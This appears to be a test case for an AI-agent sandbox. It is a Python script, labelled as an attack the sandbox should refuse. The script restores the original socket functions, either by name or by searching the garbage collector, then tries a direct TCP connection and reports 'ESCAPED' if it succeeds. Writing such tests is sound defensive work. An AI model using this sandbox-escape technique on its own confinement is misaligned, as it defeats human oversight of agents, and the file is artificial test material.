# attack: the sandbox's patches keep the originals, so a script can put them back and use every client as at home
# expect: sandbox
# validator: refused
import gc
import socket
import sys
import types

guest_network = sys.modules.get("agentic.sandbox.guest_network")


def put_back_by_name():
    socket.socket.__init__ = guest_network._original_init
    socket.socket.connect = guest_network._original_connect
    socket.socket.setsockopt = guest_network._original_setsockopt
    socket.getaddrinfo = socket._socket.getaddrinfo


def put_back_by_the_collector():
    # Where the module hides its names, the function objects are still somewhere in memory.
    for function in [item for item in gc.get_objects() if isinstance(item, types.FunctionType)]:
        if function.__module__ == "socket" and function.__qualname__ == "socket.__init__":
            socket.socket.__init__ = function
    del socket.socket.connect
    socket.getaddrinfo = socket._socket.getaddrinfo


for undo in (put_back_by_name, put_back_by_the_collector):
    try:
        undo()
        with socket.create_connection(("127.0.0.1", @TCP_PORT@), 0.5) as stream:
            stream.sendall(b"GET / HTTP/1.0\r\n\r\n")
            # The relay's streams are Unix sockets: only a real one has such an address.
            if stream.fileno() >= 0 and socket._socket.socket.getpeername(stream) == ("127.0.0.1", @TCP_PORT@):
                print("ESCAPED: the originals are back and connect", flush=True)
    except Exception as error:
        print(undo.__name__, type(error).__name__, error)
